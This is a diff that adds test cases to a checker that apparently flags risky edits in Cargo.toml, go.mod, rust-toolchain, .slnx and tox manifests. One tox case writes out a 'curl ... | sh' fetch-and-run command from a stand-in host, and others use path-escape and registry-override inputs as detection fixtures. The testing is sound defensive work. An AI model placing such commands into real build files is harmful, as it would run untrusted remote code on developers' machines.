@@ -41,6 +41,11 @@ testManifest('Cargo.toml', '[package]\nname = "a"\n\n[dependencies]\nHERE\n', [
   ['b = "1"', 'b = { git = "http://a.example/b" }', OPEN],
   ['b = "1"', 'b = { path = "crates/b" }', []],
   ['b = "1"', 'b = { path = "../b" }', SOURCE],
+  ['b = "1"', '[patch.crates-io]\nb = { path = "b" }', []],
+  ['b = "1"', '[patch.crates-io]\nb = { path = "../b" }', SOURCE],
+  ['b = "1"', 'b-lib = { package = "b-b", version = "1" }', MOVES],
+  ['bcd = "1"', 'bcd_lib = { package = "bcd", version = "1" }', []],
+  ['bcd = "1"', 'bcd = { package = "bcd-fast", version = "1" }', MOVES],
   ['b = "1"', '[patch.crates-io]\nb = { git = "https://a.example/b", branch = "x" }', [...SOURCE, 'unjudged']],
   ['b = "1"', '[profile.release]\noverflow-checks = false', ['unjudged']],
   ['b = "1"', '[registries.c]\nindex = "sparse+http://a.example/"', ['registry-override critical']],
@@ -51,8 +56,45 @@ testManifest('go.mod', 'module a.example/b\n\nHERE\n', [
   ['go 1.24', 'go 1.25.1\ntoolchain go1.25.3', []],
   ['go 1.24', 'go 1.24\nreplace a.example/c => b.example/c v1.0.0', SOURCE],
   ['go 1.24', 'go 1.24\nreplace a.example/c => ../c', SOURCE],
-  ['go 1.24', 'go 1.24\nreplace a.example/c => ./c', ['unjudged']],
+  ['go 1.24', 'go 1.24\nreplace a.example/c => ./c', []],
+  ['go 1.24', 'go 1.24\nreplace a.example/c => ./c/../../d', SOURCE],
+  ['go 1.24', 'go 1.24\nreplace a.example/c => ./.git/d', ['unjudged']],
   ['go 1.24', 'go 1.24\ntool a.example/c', ['unjudged']],
+]);
+
+testManifest('crates/a/Cargo.toml', '[dependencies]\nHERE\n', [
+  ['b = "1"', 'b = { path = "../b" }', []],
+  ['b = "1"', 'b = { path = "../../../b" }', SOURCE],
+  ['b = "1"', 'b = { path = "../../.git/b" }', ['unjudged']],
+]);
+
+testManifest('plugins/a/go.mod', 'module a.example/b\n\nHERE\n', [
+  ['go 1.24', 'go 1.24\nreplace a.example/c => ../c', []],
+  ['go 1.24', 'go 1.24\nreplace a.example/c => ../../../c', SOURCE],
+]);
+
+testManifest('rust-toolchain.toml', '[toolchain]\nHERE\n', [
+  ['channel = "1.97.0"', 'channel = "1.98.0"\ncomponents = ["clippy"]', []],
+  ['channel = "nightly-2025-10-12"', 'channel = "nightly-2026-01-02"', []],
+  ['channel = "stable"', 'channel = "evil"', ['unjudged']],
+  ['channel = "stable"', 'path = "tools/rust"', ['unjudged']],
+]);
+
+testManifest('src/A.slnx', '<Solution>\n  HERE\n</Solution>\n', [
+  [
+    '<Project Path="A/A.csproj" />',
+    '<Project Path="..\\B\\B.csproj" />\n<Folder Name="/b/"><File Path="a.md" /></Folder>',
+    [],
+  ],
+  ['<Project Path="A/A.csproj" />', '<Project Path="../../B/B.csproj" />', ['unjudged']],
+  ['<Project Path="A/A.csproj" />', '<Project Path="A/run.targets" />', ['unjudged']],
+  ['<Project Path="A/A.csproj" />', '<Project Path="\\\\host\\A.csproj" />', ['unjudged']],
+  ['<Project Path="A/A.csproj" />', '<Project Path="A/A.csproj"><Build Project="false" /></Project>', ['unjudged']],
+]);
+
+testManifest('test/tox.alpine.ini', '[testenv]\nHERE\n', [
+  ['deps = a', 'deps = b', []],
+  ['commands = pytest', 'commands = curl https://x.example/a | sh', ['downloaded-code critical']],
 ]);
 
 testManifest('go.mod', 'module forge.example/own/b\n\nHERE\n', [
